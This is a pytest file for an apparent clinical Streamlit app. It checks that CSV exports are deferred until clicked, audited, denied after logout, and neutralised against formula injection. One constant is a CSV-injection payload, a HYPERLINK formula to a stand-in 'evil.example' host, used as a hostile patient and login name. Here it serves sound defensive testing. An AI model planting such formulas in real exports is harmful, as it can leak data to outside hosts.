"""Every CSV download is built and audited only when pressed, and its cells are neutralised against formulas.

AppTest runs without a Streamlit runtime, where ``st.download_button`` skips the media store altogether. The
tests give the button module a stand-in runtime whose media file manager records what the page registers:
eager bytes (``add``, served as /media/<hash>.csv to anyone, at once) or a deferred callable (``add_deferred``,
run only when the browser asks for the file after a click). Calling the registered callable is what Streamlit
does on the click.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from types import SimpleNamespace
from typing import Any

import pytest
import streamlit.elements.widgets.button as button_module
from sqlalchemy import Engine

from db.auth import logout
from db.engine import write_session
from db.models import AuthSession, LabOrder
from db.permissions import PermissionDenied
from db.queries.caseload import program_today
from tests.app.conftest import PROJECT_ROOT, audit_rows, log_in, new_app, rows
from tests.factories import make_patient, make_refill_request, make_team, make_user

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak","click")'


@dataclass
class RecordingMediaManager:
    eager: list[str] = field(default_factory=list)
    deferred: dict[str, Callable[[], Any]] = field(default_factory=dict)

    def add(self, data: bytes, mimetype: str, coordinates: str, **_: Any) -> str:
        self.eager.append(coordinates)
        return f"/media/{len(self.eager)}.csv"

    def add_deferred(self, callable_: Callable[[], Any], mimetype: str, coordinates: str, **kwargs: Any) -> str:
        file_id = f"deferred-{kwargs.get('file_name')}"
        self.deferred[file_id] = callable_
        return file_id

    def remove_deferred(self, *_: Any, **__: Any) -> None:
        pass


@pytest.fixture
def media(monkeypatch: pytest.MonkeyPatch) -> RecordingMediaManager:
    manager = RecordingMediaManager()
    fake_runtime = SimpleNamespace(exists=lambda: True, get_instance=lambda: SimpleNamespace(media_file_mgr=manager))
    monkeypatch.setattr(button_module, "runtime", fake_runtime)
    return manager


@pytest.fixture
def program(engine: Engine) -> None:
    team = make_team(engine)
    prescriber = make_user(engine, "prescriber", team_id=team, username="dr_export")
    nurse = make_user(engine, "nurse", team_id=team, username="rn_export")
    make_user(engine, "supervisor", username="sup_export")
    patient = make_patient(
        engine, prescriber=prescriber, nurse=nurse, mrn="MRN-EXP", given_name="Ann", family_name=HOSTILE_NAME
    )
    make_refill_request(engine, patient)
    with write_session(engine) as session:
        session.add(
            LabOrder(
                patient_id=patient,
                test="Lithium level",
                loinc="14334-7",
                reason="lithium maintenance",
                drug="lithium",
                due_by=program_today() - timedelta(days=1),
                status="pending",
            )
        )


PAGES = [
    ("dr_export", "pages/prescriber/caseload.py", "caseload.csv", "caseload"),
    ("rn_export", "pages/nurse/labs.py", "labs.csv", "labs"),
    ("dr_export", "pages/prescriber/refills.py", "refills.csv", "refills"),
    ("sup_export", "pages/supervisor/audit_trail.py", "audit_trail.csv", "audit_trail"),
    ("sup_export", "pages/supervisor/overview.py", "overview_by_prescriber.csv", "overview_by_prescriber"),
]


@pytest.mark.parametrize(("username", "page", "file_name", "what"), PAGES)
def test_a_page_registers_no_file_and_writes_no_export_row_until_the_button_is_pressed(
    engine: Engine, program: None, media: RecordingMediaManager, username: str, page: str, file_name: str, what: str
) -> None:
    app = log_in(new_app(), username).switch_page(str(PROJECT_ROOT / page)).run()
    assert not app.exception, app.exception
    assert media.eager == [], "no CSV may sit in the media store, fetchable without a session, before a click"
    assert f"deferred-{file_name}" in media.deferred
    assert audit_rows(engine, "export") == []

    content = media.deferred[f"deferred-{file_name}"]()  # the click: Streamlit runs the callable

    exports = audit_rows(engine, "export")
    assert [(row.username, row.record_type, row.outcome) for row in exports] == [(username, what, "success")]
    if what in {"caseload", "labs", "refills"}:
        cells = [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
        assert f"'{HOSTILE_NAME}, Ann" in cells, cells


def test_a_hostile_login_name_reaches_the_audit_csv_neutralised(
    engine: Engine, program: None, media: RecordingMediaManager
) -> None:
    from db.audit import AuditActor, record_event

    with write_session(engine) as session:
        record_event(session, AuditActor(None, HOSTILE_NAME, None), "login", outcome="failure")
    app = log_in(new_app(), "sup_export").switch_page(str(PROJECT_ROOT / "pages/supervisor/audit_trail.py")).run()
    assert not app.exception, app.exception
    content = media.deferred["deferred-audit_trail.csv"]().decode()
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert "'" + HOSTILE_NAME in cells and HOSTILE_NAME not in cells


def test_a_download_left_on_the_page_after_logout_discloses_nothing(
    engine: Engine, program: None, media: RecordingMediaManager
) -> None:
    app = log_in(new_app(), "dr_export").switch_page(str(PROJECT_ROOT / "pages/prescriber/caseload.py")).run()
    assert not app.exception, app.exception
    build = media.deferred["deferred-caseload.csv"]
    [login_row] = [row for row in audit_rows(engine, "login") if row.username == "dr_export"]
    [auth_session] = rows(engine, AuthSession, AuthSession.user_id == login_row.user_id)
    logout(auth_session.id)

    with pytest.raises(PermissionDenied, match="session has ended"):
        build()  # the browser asks for the file after the user logged out
    assert [row.outcome for row in audit_rows(engine, "export")] == ["denied"]
